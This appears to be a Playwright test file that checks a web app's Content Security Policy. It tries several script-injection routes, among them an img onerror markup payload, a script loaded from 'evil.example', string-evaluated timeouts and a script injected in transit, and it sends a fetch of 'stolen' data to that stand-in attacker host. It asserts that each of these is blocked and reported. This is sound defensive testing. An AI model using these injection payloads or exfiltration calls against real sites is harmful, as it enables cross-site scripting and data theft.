import { expect, signIn, test } from './staff.ts'

test.use({ expectedErrors: ['Content Security Policy', "requires 'Trusted", 'status of 404'] })

test.describe('The Content Security Policy', () => {
  test('an injected script does not run, whichever way it is injected, and the browser reports it (SIGN-9)', async ({ page }) => {
    await signIn(page, 'user', '/profile')

    const outcome = await page.evaluate(`(async () => {
    const reported = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => reported.push(effectiveDirective))
    const attempt = (name, act) => { try { act(); return name + ' went through' } catch (error) { return name + ' ' + error.name } }
    const script = document.createElement('script')
    const picture = document.createElement('img')
    const outcomes = [
      attempt('markup', () => { document.body.innerHTML = '<img src="x" onerror="window.injected = 1">' }),
      attempt('text of a script', () => { script.textContent = 'window.injected = 2' }),
      attempt('address of a script', () => { script.src = 'https://evil.example/x.js' }),
      attempt('words as code', () => { setTimeout('window.injected = 3', 0) }),
    ]
    script.append('window.injected = 4')
    document.body.append(script)
    attempt('attribute', () => picture.setAttribute('onerror', 'window.injected = 5'))
    picture.src = '/no-such-picture.png'
    document.body.append(picture)
    await fetch('https://evil.example/?stolen').catch(() => {})
    await new Promise((settled) => setTimeout(settled, 300))
    return { outcomes, injected: window.injected, reported: [...new Set(reported)].sort() }
  })()`)

    expect(outcome).toMatchObject({
      outcomes: ['markup TypeError', 'text of a script TypeError', 'address of a script TypeError', 'words as code TypeError'],
      reported: expect.arrayContaining(['connect-src', 'require-trusted-types-for']),
    })
    expect((outcome as { injected?: number }).injected).toBeUndefined()
  })

  test('a script added to the HTML in transit does not run (SIGN-9)', async ({ page, context }) => {
    await context.route('**/nowhere', async (route) => {
      const response = await route.fetch()
      const body = (await response.text()).replace('</head>', '<script>window.injected = true</script></head>')
      await route.fulfill({ response, body })
    })
    await page.goto('/nowhere')
    await page.getByRole('heading', { level: 1 }).waitFor()

    expect(await page.content()).toContain('window.injected')
    expect(await page.evaluate('window.injected')).toBeUndefined()
  })
})
